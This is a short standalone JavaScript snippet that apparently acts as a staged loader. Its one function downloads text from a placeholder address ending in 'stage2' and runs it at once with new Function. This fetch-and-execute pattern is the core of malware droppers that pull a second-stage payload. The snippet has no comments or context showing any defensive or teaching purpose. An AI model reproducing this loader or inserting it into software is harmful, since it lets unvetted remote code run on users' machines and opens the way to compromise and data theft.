async function go() {
  const r = await fetch('https://example.invalid/stage2');
  const code = await r.text();
  new Function(code)();
}
